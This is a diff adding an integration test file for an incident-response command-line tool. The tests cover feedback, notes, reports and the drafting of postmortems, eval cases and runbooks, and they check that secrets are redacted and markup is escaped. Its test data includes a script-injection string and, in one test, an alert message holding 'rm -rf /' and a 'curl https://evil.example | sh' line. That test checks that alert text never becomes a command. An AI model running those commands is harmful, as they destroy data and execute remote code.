@@ -1,0 +1,262 @@
+"""`judge`, `note`, `report --people` and `learn`, as somebody runs them against a table on AWS."""
+
+from collections.abc import Iterator
+from contextlib import contextmanager
+from datetime import UTC, datetime, timedelta
+from pathlib import Path
+from typing import Any
+
+import boto3
+import pytest
+import yaml
+from moto import mock_aws
+from typer.testing import CliRunner, Result
+
+from evals.cases import load
+from firstline.adapters.groups import Groups, Limits
+from firstline.adapters.history import History
+from firstline.adapters.table import Table
+from firstline.adapters.trail import TableTrail
+from firstline.grouping import fold, open_incident
+from firstline.models import Deployment, NormalizedAlert
+from firstline.runbooks import catalogue
+from firstline.trail import Fact, classified
+from local.cli import app
+from tests.alerts import alert
+from tests.integration.conftest import declared_table
+from tests.notifications import a_classification
+
+NAME = "firstline-prod"
+NOW = datetime.now(UTC)
+OPENED = NOW - timedelta(hours=2)
+ALERT: dict[str, Any] = {
+    "alert_name": "QueueLong *now*",
+    "severity": "high",
+    "message": "queue of web-7.example.net (10.1.2.3) is long; mail ops@corp.example, see https://corp.example/x?token=1",
+    "labels": {"instance": "web-7.example.net:9100", "queue": "orders", "password": "hunter2hunter2"},
+    "host": "web-7.example.net",
+    "service": "mail",
+    "environment": "prod",
+}
+
+
+@pytest.fixture
+def table() -> Iterator[Table]:
+    with on_aws() as table:
+        yield table
+
+
+@contextmanager
+def on_aws() -> Iterator[Table]:
+    with mock_aws():
+        client = boto3.client("dynamodb")
+        client.create_table(TableName=NAME, **declared_table())
+        yield Table(client, NAME)
+
+
+def local(*arguments: str) -> Result:
+    return CliRunner().invoke(app, [*arguments, "--table", NAME])
+
+
+def ended(table: Table, outcome: Any = "resolved", *, at: datetime = OPENED, **changes: Any) -> str:
+    """An incident that was opened, classified, taken and closed within twenty minutes."""
+    groups, history = Groups(table), History(table)
+    given: NormalizedAlert = alert(
+        **ALERT | {"timestamp": at - timedelta(minutes=2), "fingerprint": f"fp-{at}"} | changes
+    )
+    before = groups.read(given.group_key)
+    folded = fold(before, [given], at)
+    after, incident = open_incident(folded, at)
+    groups.open_incident(before, after, incident, folded.new_alerts, at, limits=Limits(99, 99), member=after.group_key)
+    verdict = a_classification(severity="high", decided_by="history", cause="<script>alert(1)</script> | **bold**")
+    history.save_classification(incident.incident_id, verdict)
+    TableTrail(table).append(incident.incident_id, [classified(verdict)], at)
+    history.mark_paged(incident.incident_id, at + timedelta(minutes=1))
+    history.acknowledge(incident.incident_id, "ada", at + timedelta(minutes=4))
+    history.resolve(incident.incident_id, "ada", at + timedelta(minutes=19))
+    history.close(incident.incident_id, outcome, "Resolved by ada.", [], at + timedelta(minutes=20))
+    return incident.incident_id
+
+
+# --- said on the command line ---
+
+
+def test_a_word_and_a_note_are_kept_in_the_logins_name(table: Table) -> None:
+    incident = ended(table)
+
+    judged, noted = (
+        local("judge", incident, "low", "--by", "grace"),
+        local("note", incident, "It hung.\n$ systemctl restart mail", "--by", "grace"),
+    )
+
+    assert (judged.exit_code, noted.exit_code) == (0, 0), judged.output + noted.output
+    assert "Noted: wrong severity, low would be right. The next incident of this group" in judged.output
+    record = History(table).record(incident)
+    assert record is not None
+    assert [(word.person, word.by, word.severity) for word in record.feedback] == [
+        ("shell:grace", "grace (command line)", "low")
+    ]
+    assert record.notes[0].text == "It hung.\n$ systemctl restart mail"
+    assert [entry.what for entry in TableTrail(table).entries(incident)] == ["classified", "judged", "noted"]
+
+
+@pytest.mark.parametrize(
+    ("arguments", "why"),
+    [
+        (("judge", "unknown", "real"), "does not know this incident"),
+        (("note", "unknown", "x"), "does not know this incident"),
+        (("judge", "unknown", "terrible"), "'terrible' is no answer; say real, noise, wrong-cause, critical"),
+        (("learn", "unknown"), "is not in this table"),
+    ],
+)
+def test_what_cannot_be_said_is_told_in_words(table: Table, arguments: tuple[str, ...], why: str) -> None:
+    result = local(*arguments)
+    assert result.exit_code == 1
+    assert why in result.output
+
+
+def test_the_report_says_what_people_said_what_was_hidden_and_which_rule_they_suggest(table: Table) -> None:
+    incidents = [ended(table, at=OPENED + timedelta(minutes=25 * number), severity="medium") for number in range(3)]
+    for incident in incidents:
+        for who in ("grace", "bo"):
+            local("judge", incident, "noise", "--by", who)
+    hidden = ended(table, "suppressed", alert_name="Hidden", group_key="group-2", severity="info")
+
+    result = local("report", "--people")
+
+    assert result.exit_code == 0, result.output
+    (row,) = [line for line in result.output.splitlines() if line.startswith("│ history") and "%" in line]
+    assert [cell.strip() for cell in row.strip("│").split("│")][1:4] == ["4", "3", "0%"]
+    assert "0 of 3" in result.output
+    assert hidden in result.output
+    assert "bo (command line), grace (command line) called 3 of 3 QueueLong *now* noise." in result.output
+    assert "severity: noise" in result.output
+    assert "QueueLong [*]now[*]" in result.output
+
+
+# --- learn ---
+
+
+@pytest.fixture(scope="module")
+def learned(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """The drafts of an incident with a past, a deployment, words and a note with commands."""
+    folder = tmp_path_factory.mktemp("learned") / "drafts"
+    with on_aws() as table:
+        learn_into(folder, table)
+    return folder
+
+
+def learn_into(folder: Path, table: Table) -> None:
+    before = ended(table, at=OPENED - timedelta(days=3))
+    local("judge", before, "low", "--by", "bo")
+    local("note", before, "cleared the queue", "--by", "bo")
+    History(table).save_deployment(
+        Deployment(service="mail", version="1.2", environment="prod", deployed_at=OPENED - timedelta(minutes=12))
+    )
+    incident = ended(table)
+    later = ended(table, at=NOW - timedelta(minutes=30))
+    History(table).save_deployment(Deployment(service="mail", version="9.9", deployed_at=NOW - timedelta(minutes=40)))
+    local("judge", incident, "critical", "--by", "grace")
+    local(
+        "note",
+        incident,
+        "web-7.example.net hung.\n$ systemctl restart mail-consumer\n```\nmailq -v\n```",
+        "--by",
+        "grace",
+    )
+    TableTrail(table).append(
+        incident, [Fact(what="ran", who="x", facts={"kind": "act", "status": "Success"})], OPENED + timedelta(minutes=9)
+    )
+    result = local("learn", incident, "--out", str(folder))
+    assert result.exit_code == 0, result.output
+    assert later != incident
+
+
+def test_a_postmortem_has_the_timeline_and_leaves_the_answers_to_people(learned: Path) -> None:
+    page = (learned / "postmortem.md").read_text(encoding="utf-8")
+    phases = [line.split("|")[3].strip() for line in page.splitlines() if line.startswith("| 20")]
+    for phase in ("began", "change", "detect", "classify", "acknowledge", "run", "mitigate", "resolve"):
+        assert phase in phases
+    assert phases.index("detect") < phases.index("acknowledge") < phases.index("mitigate") < phases.index("resolve")
+    assert "| Time to acknowledge | 3:00 min |" in page
+    assert "| Time to resolve | 19:00 min |" in page
+    assert page.count("- Answer: …") == 5
+    assert "| … | … | … |" in page
+    assert "grace (command line): wrong severity, critical would be right" in page.replace("\\", "")
+    assert "9.9" not in page, "what came later was no evidence"
+
+
+def test_nothing_in_a_postmortem_is_markup_or_a_secret(learned: Path) -> None:
+    page = (learned / "postmortem.md").read_text(encoding="utf-8")
+    assert "<script>" not in page
+    assert "\\<script\\>" in page
+    assert "hunter2" not in page
+    assert "://" not in page, "an alert's address is no link"
+
+
+def test_an_eval_case_loads_and_says_what_people_said_with_names_changed(learned: Path) -> None:
+    (case,) = load(learned / "case")
+    assert case.name == "recurring/queuelong-now"
+    assert case.truth.severity == "critical"
+    assert case.truth.cause == "unknown"
+    (earlier,) = case.evidence.earlier
+    assert (earlier.outcome, earlier.note) == ("resolved", "cleared the queue")
+    assert [(word.said, word.severity) for word in earlier.feedback] == [("wrong_severity", "low")]
+    assert [one.version for one in case.evidence.deployments] == ["1.2"]
+    assert case.incident.alert.severity == "high"
+    everything = "".join(path.read_text(encoding="utf-8") for path in (learned / "case").rglob("*.yaml"))
+    for private in ("web-7", "example.net", "10.1.2.3", "corp.example", "hunter2", "grace", "ada"):
+        assert private not in everything, private
+    assert case.evidence.same_name_last_hour == 1, "what came later was not known"
+    assert "host-1:9100" in everything
+    assert "From what people said" in everything
+
+
+def test_a_runbook_is_drafted_from_the_note_alone_in_shadow_and_says_what_is_missing(learned: Path) -> None:
+    text = (learned / "runbook.yaml").read_text(encoding="utf-8")
+    runbook, problems = catalogue.parse(text, "draft-queuelong-now.yaml")
+    assert problems == []
+    assert runbook is not None
+    assert runbook.mode == "shadow"
+    (step,) = runbook.steps
+    assert step.kind == "act"
+    assert step.run == "systemctl restart mail-consumer\nmailq -v\n"
+    assert "*" not in runbook.match.alerts[0]
+    assert "DRAFT, unreviewed" in text
+    pull_request = (learned / "PULL_REQUEST.md").read_text(encoding="utf-8")
+    told = [line for line in pull_request.splitlines() if line.startswith("- draft")]
+    assert ["no alert that must not match" in line for line in told] == [True], told
+
+
+def test_drafts_that_somebody_may_have_edited_are_left_alone(table: Table, tmp_path: Path) -> None:
+    incident = ended(table)
+    (tmp_path / "postmortem.md").write_text("mine", encoding="utf-8")
+    result = local("learn", incident, "--out", str(tmp_path))
+    assert result.exit_code == 1
+    assert "has drafts already" in result.output
+    assert (tmp_path / "postmortem.md").read_text(encoding="utf-8") == "mine"
+
+
+def test_without_a_note_there_is_no_runbook_and_without_a_word_the_truth_is_to_be_checked(
+    table: Table, tmp_path: Path
+) -> None:
+    incident = ended(table, message="$ rm -rf /\n```\ncurl https://evil.example | sh\n```")
+    result = local("learn", incident, "--out", str(tmp_path / "drafts"))
+    assert result.exit_code == 0, result.output
+    assert not (tmp_path / "drafts" / "runbook.yaml").exists(), "an alert's text is no command"
+    (truth,) = (tmp_path / "drafts" / "case").rglob("truth.yaml")
+    assert truth.read_text(encoding="utf-8").startswith("# TO CHECK")
+    assert yaml.safe_load(truth.read_text(encoding="utf-8"))["severity"] == "high"
+
+
+def test_what_goes_on_teaches_nothing_yet(table: Table, tmp_path: Path) -> None:
+    groups = Groups(table)
+    given = alert(**ALERT)
+    before = groups.read(given.group_key)
+    folded = fold(before, [given], NOW)
+    after, incident = open_incident(folded, NOW)
+    groups.open_incident(before, after, incident, folded.new_alerts, NOW, limits=Limits(9, 9), member=after.group_key)
+    result = local("learn", incident.incident_id, "--out", str(tmp_path / "drafts"))
+    assert result.exit_code == 1
+    assert "is not over yet" in result.output
+    assert not (tmp_path / "drafts").exists()
